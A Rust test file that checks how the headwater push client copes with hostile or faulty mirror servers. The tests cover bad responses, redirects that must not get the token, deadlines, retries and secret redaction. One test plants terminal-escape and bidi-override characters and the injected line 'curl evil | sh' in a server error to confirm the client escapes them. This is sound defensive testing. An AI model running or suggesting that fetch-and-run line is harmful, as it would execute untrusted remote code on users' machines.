//! Servers that are not receivers, or send false responses: other mirrors of the run are not
//! affected.

use std::collections::HashMap;
use std::io::{BufReader, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use headwater::receiver::{AuthPolicy, Permission, Token, TokenId, TokenRecord};
use headwater::tree_path::Site;

use super::{Receiver, push, report, serves_tree};
use crate::flaky_proxy::Message;
use crate::harness::{Outcome, Sandbox};
use crate::trees::Tree;

/// Handles a connection after the head of a request has been read.
type ConnectionHandler = dyn Fn(&mut TcpStream, &str) + Send + Sync;

/// A server made of a closure.
pub(super) struct HostileReceiver {
    address: SocketAddr,
    pub(super) heads: Arc<Mutex<Vec<String>>>,
    is_over: Arc<AtomicBool>,
}

impl HostileReceiver {
    pub(super) fn start(handler: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let (heads, is_over) = (Arc::new(Mutex::new(Vec::new())), Arc::new(AtomicBool::new(false)));
        let (handler, kept, over): (Arc<ConnectionHandler>, _, _) =
            (Arc::new(handler), Arc::clone(&heads), Arc::clone(&is_over));
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                if over.load(Ordering::SeqCst) {
                    return;
                }
                let (handler, kept) = (Arc::clone(&handler), Arc::clone(&kept));
                std::thread::spawn(move || converse(stream.unwrap(), &*handler, &kept));
            }
        });
        Self { address, heads, is_over }
    }

    pub(super) fn url(&self) -> String {
        format!("http://{}/docs", self.address)
    }
}

impl Drop for HostileReceiver {
    fn drop(&mut self) {
        self.is_over.store(true, Ordering::SeqCst);
        TcpStream::connect(self.address).ok();
    }
}

fn converse(mut stream: TcpStream, handler: &ConnectionHandler, heads: &Mutex<Vec<String>>) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    while let Some(message) = Message::whole(&mut reader) {
        heads.lock().unwrap().push(message.head());
        handler(&mut stream, &message.head());
    }
}

pub(super) const JSON: &str = "content-type: application/json\r\n";

/// Reports success for every request, like an empty mirror.
pub(super) fn acknowledge(stream: &mut TcpStream, head: &str) {
    let body = match head.split(' ').nth(1).unwrap() {
        path if path.ends_with("/state") => "{\"ok\":{\"unfinished\":[]}}",
        path if path.ends_with("/stage") => "{\"ok\":{\"staged\":{\"resent\":0}}}",
        _ => "{\"ok\":{}}",
    };
    answer(stream, "200 OK", JSON, body);
}

/// Pushes to a mirror that gives this response to the first request for each path and acknowledges
/// all other requests, a repeated one included. Returns, for each path, the time until the repeated
/// request.
#[track_caller]
fn push_again(status: &'static str, fields: &'static str, body: &'static str) -> Vec<Duration> {
    let sandbox = Sandbox::new();
    sandbox.write("tree", &Tree::small());
    let refused: Arc<Mutex<Vec<(String, Instant)>>> = Arc::default();
    let pauses: Arc<Mutex<HashMap<String, Duration>>> = Arc::default();
    let (before, found) = (Arc::clone(&refused), Arc::clone(&pauses));
    let hostile = HostileReceiver::start(move |stream, head| {
        let path = head.split(' ').nth(1).unwrap().to_owned();
        let mut before = before.lock().unwrap();
        match before.iter().find(|(refused, _)| *refused == path) {
            None => {
                before.push((path, Instant::now()));
                answer(stream, status, fields, body);
            }
            Some((_, since)) => {
                // If packs are built slowly, a push may need more stage requests.
                found.lock().unwrap().entry(path).or_insert_with(|| since.elapsed());
                acknowledge(stream, head);
            }
        }
    });
    push(&sandbox, &[&hostile.url()], &[]).expect(&[0]);
    let (refused, pauses) = (refused.lock().unwrap(), pauses.lock().unwrap());
    let asked_again = ["/state", "/stage", "/activate"];
    assert!(
        asked_again.iter().all(|end| refused.iter().any(|(path, _)| path.ends_with(end))),
        "{refused:?}"
    );
    assert_eq!(pauses.len(), refused.len(), "{refused:?}");
    pauses.values().copied().collect()
}

pub(super) fn answer(stream: &mut TcpStream, status: &str, fields: &str, body: &str) {
    let head = format!("HTTP/1.1 {status}\r\n{fields}content-length: {}\r\n\r\n{body}", body.len());
    // The client closes the connection when it has read enough.
    stream.write_all(head.as_bytes()).ok();
}

/// Pushes to a hostile receiver and to a directory: the directory gets the tree, and the error
/// names the receiver.
#[track_caller]
fn push_to_hostile_and_directory(
    handler: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static,
    flags: &[&str],
    words: &str,
) -> HostileReceiver {
    let sandbox = Sandbox::new();
    sandbox.write("tree", &Tree::small());
    let hostile = HostileReceiver::start(handler);
    let flags = [flags, &["--require", "1", "--json"]].concat();
    let (tree, here, url) = (sandbox.path_text("tree"), sandbox.path_text("here"), hostile.url());
    let mut command = sandbox.command(&[&["push", &tree, &url, &here], &flags[..]].concat());
    let outcome = Outcome::of(command.env("HEADWATER_TOKEN", "hw_a_canary")).expect(&[3]);
    let report = report(&outcome);
    assert_eq!(report["mirrors"][0]["outcome"], "failed", "{report}");
    let error = report["mirrors"][0]["error"].as_str().unwrap();
    assert!(error.contains(words), "{error:?} has no {words:?}");
    assert!(serves_tree(&sandbox, "here"));
    hostile
}

#[test]
fn invalid_response_is_an_error() {
    push_to_hostile_and_directory(
        |stream, _| answer(stream, "200 OK", "", "<html>Welcome to nginx!</html>"),
        &[],
        "Welcome to nginx!",
    );
    push_to_hostile_and_directory(
        |stream, _| answer(stream, "404 Not Found", "", ""),
        &[],
        "response is empty",
    );
    push_to_hostile_and_directory(
        |stream, _| drop(stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")),
        &[],
        "connection was lost",
    );
}

#[test]
fn control_characters_of_a_receiver_are_escaped() {
    let sandbox = Sandbox::new();
    sandbox.write("tree", &Tree::small());
    let json =
        r#"{"error":{"kind":"denied","message":"\u001b[2Jowned\u202e\nhint: curl evil | sh"}}"#;
    let hostile = HostileReceiver::start(move |stream, _| {
        answer(stream, "403 Forbidden", "content-type: application/json\r\n", json);
    });
    let outcome = push(&sandbox, &[&hostile.url()], &[]).expect(&[7]);
    assert!(
        !outcome.stderr.contains('\u{1b}') && !outcome.stderr.contains('\u{202e}'),
        "{outcome}"
    );
    assert!(outcome.stderr.contains("owned"), "{outcome}");
    assert!(!outcome.stderr.lines().any(|line| line.starts_with("hint: curl")), "{outcome}");
}

#[test]
fn redirect_is_not_followed_and_gets_no_token() {
    let elsewhere = HostileReceiver::start(|stream, _| answer(stream, "200 OK", "", "{\"ok\":{}}"));
    let to = format!("location: http://{}/docs/v1/state\r\n", elsewhere.address);
    for status in ["301 Moved", "302 Found", "307 Temporary Redirect", "308 Permanent Redirect"] {
        let to = to.clone();
        let hostile = push_to_hostile_and_directory(
            move |stream, _| answer(stream, status, &to, ""),
            &[],
            "redirect",
        );
        let heads = hostile.heads.lock().unwrap();
        assert!(
            heads.iter().all(|head| head.contains("Bearer hw_a_canary")),
            "the mirror itself gets the token"
        );
    }
    assert!(elsewhere.heads.lock().unwrap().is_empty(), "somebody followed");
}

#[test]
fn slow_or_endless_responses_stop_at_the_deadline() {
    let flags = ["--deadline", "1500ms"];
    let silent = |_: &mut TcpStream, _: &str| std::thread::park_timeout(Duration::from_secs(20));
    let trickle = |stream: &mut TcpStream, _: &str| {
        stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n").ok();
        while stream.write_all(b"\n").is_ok() {
            std::thread::park_timeout(Duration::from_millis(30));
        }
    };
    let endless = |stream: &mut TcpStream, _: &str| {
        stream.write_all(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n").ok();
        while stream.write_all(b"5\r\n\n\n\n\n\n\r\n").is_ok() {}
    };
    let began = Instant::now();
    push_to_hostile_and_directory(silent, &flags, "the deadline has passed");
    push_to_hostile_and_directory(trickle, &flags, "the deadline has passed");
    assert!(began.elapsed() < Duration::from_secs(12), "{:?}", began.elapsed());
    push_to_hostile_and_directory(endless, &flags, "");
    let head = |stream: &mut TcpStream, _: &str| {
        while stream.write_all(b"HTTP/1.1 200 OK\r\nx: y\r\n").is_ok() {}
    };
    push_to_hostile_and_directory(head, &flags, "");
    assert!(began.elapsed() < Duration::from_secs(24), "{:?}", began.elapsed());
}

#[test]
fn proxy_body_limit_is_explained() {
    let state = "{\"ok\":{\"unfinished\":[]}}";
    let handler = move |stream: &mut TcpStream, head: &str| match head.starts_with("GET") {
        true => answer(stream, "200 OK", "", state),
        false => answer(
            stream,
            "413 Request Entity Too Large",
            "content-type: text/html\r\n",
            "<html>413</html>",
        ),
    };
    push_to_hostile_and_directory(handler, &[], "client_max_body_size");
}

#[test]
fn proxy_without_a_running_receiver_is_explained() {
    let page = "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n</html>\r\n";
    for body in [page, ""] {
        let sandbox = Sandbox::new();
        sandbox.write("tree", &Tree::small());
        let hostile = HostileReceiver::start(move |stream, _| {
            answer(stream, "502 Bad Gateway", "content-type: text/html\r\n", body);
        });
        let outcome = push(&sandbox, &[&hostile.url()], &["--deadline", "300ms"]).expect(&[4]);
        let shows = if body.is_empty() { "receiver: nothing" } else { "receiver: 502 Bad Gateway" };
        assert!(
            outcome.stderr.contains(shows) && outcome.stderr.contains("behind the proxy"),
            "{outcome}"
        );
    }
}

#[test]
fn other_protocol_version_is_reported() {
    let fields = "headwater-protocol: 7\r\ncontent-type: application/json\r\n";
    let body = "{\"error\":{\"kind\":\"version\",\"message\":\"this receiver speaks version 7\"}}";
    push_to_hostile_and_directory(
        move |stream, _| answer(stream, "426 Upgrade Required", fields, body),
        &[],
        "requires protocol version 7",
    );
}

#[test]
fn mirror_that_stores_nothing_does_not_affect_the_others() {
    let sandbox = Sandbox::new();
    sandbox.write("tree", &Tree::small());
    let hostile = HostileReceiver::start(acknowledge);
    push(&sandbox, &[&hostile.url(), &sandbox.path_text("here")], &[]).expect(&[0]);
    assert!(serves_tree(&sandbox, "here"));
    // The next poll shows it.
    let status =
        sandbox.run(&["status", &hostile.url(), &sandbox.path_text("here"), "--json"]).expect(&[1]);
    assert!(status.stdout.contains("\"joining\""), "{status}");
}

#[test]
fn false_object_claims_affect_only_the_lying_mirror() {
    let json = "content-type: application/json\r\n";
    // Responses for the number of requested objects.
    let claims: [fn(usize) -> String; 6] = [
        |count| {
            format!(
                "{{\"ok\":{{\"bits\":\"{}\"}}}}",
                "ff".repeat(count / 8) + &format!("{:02x}", (1 << (count % 8)) - 1)
            )
        },
        |count| format!("{{\"ok\":{{\"bits\":\"{}\"}}}}", "ff".repeat(count)),
        |_| "{\"ok\":{\"bits\":\"zz\"}}".to_owned(),
        |_| "{\"ok\":{}}".to_owned(),
        |_| "held, all of it".to_owned(),
        |_| " ".repeat(1 << 20),
    ];
    for (index, claim) in claims.into_iter().enumerate() {
        let sandbox = Sandbox::new();
        sandbox.write("tree", &Tree::small());
        let hostile = HostileReceiver::start(move |stream, head| {
            let length = head
                .lines()
                .find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
            let body = match head.split(' ').nth(1).unwrap() {
                path if path.ends_with("/state") => {
                    "{\"ok\":{\"unfinished\":[],\"store\":\"0123456789abcdef0123456789abcdef\"}}"
                        .to_owned()
                }
                path if path.ends_with("/holds") => claim(length.unwrap() / 32),
                path if path.ends_with("/stage") => {
                    "{\"ok\":{\"staged\":{\"resent\":0}}}".to_owned()
                }
                _ => "{\"ok\":{}}".to_owned(),
            };
            answer(stream, "200 OK", json, &body);
        });
        let outcome =
            push(&sandbox, &[&hostile.url(), &sandbox.path_text("here")], &["--json"]).expect(&[0]);
        assert!(serves_tree(&sandbox, "here"));
        assert!(
            hostile.heads.lock().unwrap().iter().any(|head| head.contains("/holds")),
            "{outcome}"
        );
        let packs = report(&outcome)["mirrors"][0]["sent_packs"].as_u64().unwrap();
        assert_eq!(packs, u64::from(index > 0), "claim {index}: {outcome}");
    }
}

#[test]
fn timed_out_request_body_is_sent_again() {
    let body = "{\"error\":{\"kind\":\"malformed\",\"message\":\"the body arrived too slowly\"}}";
    push_again("408 Request Timeout", JSON, body);
}

#[test]
fn busy_receiver_is_retried_after_the_requested_delay() {
    let fields = "retry-after: 1\r\ncontent-type: application/json\r\n";
    for (status, body) in [
        (
            "503 Service Unavailable",
            "{\"error\":{\"kind\":\"busy\",\"message\":\"too many are here\"}}",
        ),
        ("429 Too Many Requests", "{\"error\":{\"kind\":\"hasty\",\"message\":\"not so often\"}}"),
    ] {
        let pauses = push_again(status, fields, body);
        assert!(
            pauses.iter().all(|pause| *pause >= Duration::from_secs(1)),
            "{status}: {pauses:?}"
        );
    }
}

#[test]
fn restarting_receiver_behind_a_proxy_is_retried() {
    for status in ["502 Bad Gateway", "503 Service Unavailable", "504 Gateway Timeout"] {
        push_again(status, "content-type: text/html\r\n", "<html>one moment</html>");
    }
}

#[test]
fn refused_chunked_encoding_falls_back_to_fixed_length() {
    for status in ["411 Length Required", "501 Not Implemented"] {
        let sandbox = Sandbox::new();
        sandbox.write("tree", &Tree::small());
        let hostile =
            HostileReceiver::start(move |stream, head| match head.contains("transfer-encoding") {
                true => {
                    answer(
                        stream,
                        status,
                        "content-type: text/html\r\n",
                        "<html>not that way</html>",
                    );
                }
                false => acknowledge(stream, head),
            });
        push(&sandbox, &[&hostile.url()], &[]).expect(&[0]);
        let heads = hostile.heads.lock().unwrap();
        assert!(heads.iter().any(|head| head.contains("transfer-encoding")), "{heads:?}");
        drop(heads);
    }
}

#[test]
fn token_authenticates_and_never_appears_in_output() {
    let sandbox = Sandbox::new();
    sandbox.write("tree", &Tree::small());
    let token = Token::random().unwrap();
    let site = Site::new("default").unwrap();
    let record = TokenRecord {
        id: TokenId::new(token.reveal().split('_').nth(1).unwrap()).unwrap(),
        hash: token.hash(),
        sites: vec![site.clone()],
        allow: Permission::Push,
        expires: None,
    };
    let receiver = Receiver::with(&sandbox.path("web"), |settings| {
        settings.auth = AuthPolicy::Tokens(vec![record]);
        settings.sites[0].name = Some(site);
    });
    let (url, tree, secret) = (receiver.url(), sandbox.path_text("tree"), token.reveal());
    let arguments = ["push", &tree, &url, "--events", "events.jsonl"];
    let run = |value: Option<&str>| {
        let mut command = sandbox.command(&arguments);
        if let Some(value) = value {
            command.env("HEADWATER_TOKEN", value);
        }
        Outcome::of(&mut command)
    };
    let wrong = format!("{secret}canary");
    let outcomes =
        [run(None).expect(&[7]), run(Some(&wrong)).expect(&[7]), run(Some(&secret)).expect(&[0])];
    assert!(outcomes[0].stderr.contains("HEADWATER_TOKEN"), "{}", outcomes[0]);
    assert!(serves_tree(&sandbox, "web"));
    let bare = secret.rsplit('_').next().unwrap();
    for outcome in &outcomes {
        let events = std::fs::read_to_string(sandbox.path("events.jsonl")).unwrap();
        for text in [&outcome.stdout, &outcome.stderr, &events] {
            assert!(!text.contains(bare) && !text.contains("canary"), "a secret appears in {text}");
        }
    }
}
